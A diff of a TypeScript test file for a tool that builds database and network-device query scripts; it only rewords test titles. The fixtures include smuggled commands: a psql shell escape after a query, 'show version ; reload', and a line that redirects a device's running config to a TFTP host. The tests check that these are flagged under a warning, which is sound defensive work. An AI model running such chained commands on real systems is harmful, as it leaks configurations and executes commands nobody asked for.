@@ -8,7 +8,7 @@ import { queryKey, queryMark } from "../../../core/observations/query-key.ts";
 const answer = (text: string): Need => ({ kind: "answer", key: queryKey(text), text });
 const command = (text: string): Need => ({ kind: "command", key: `device:${text}`, text });
 
-test("each query stands below its mark, and the last below the end", () => {
+test("each query is below its mark, and the end is below the last", () => {
   const lines = queryScript(["db.audit"], [answer("select a from t;"), answer("show x")], "psql").split("\n");
   const mark = queryMark(queryKey("SELECT  a FROM t"));
   assert.match(mark, /^[0-9a-f]{16}$/);
@@ -17,7 +17,7 @@ test("each query stands below its mark, and the last below the end", () => {
   assert.ok(lines.indexOf("\\echo '-- end of queries'") > lines.indexOf("show x;"));
 });
 
-test("a query that may do more than ask comes first, under a warning", () => {
+test("a query that may do more than read comes first, under a warning", () => {
   const doing = [
     "exec sp_configure 'x', 1",
     "select 1\n\\! id",
@@ -72,7 +72,7 @@ test("what is typed on a device: the pager first, then what shows, then the rest
   );
 });
 
-test("a command that goes on behind what it shows is listed under the warning", () => {
+test("a command that continues after what it shows is listed under the warning", () => {
   const hostile = [
     "show version ; reload",
     "show running-config | redirect tftp://192.0.2.1/x",
@@ -92,7 +92,7 @@ test("a command that goes on behind what it shows is listed under the warning", 
   assert.doesNotMatch(plain, /may do more/);
 });
 
-test("a query whose quote does not end would take in what follows: it is left out", () => {
+test("a query with an unclosed quote would include what follows: it is left out", () => {
   const script = queryScript(["db.audit"], [answer("select 'a"), answer("select b")], "psql");
   assert.ok(!script.includes("select 'a"));
   assert.ok(script.includes("select b;"));
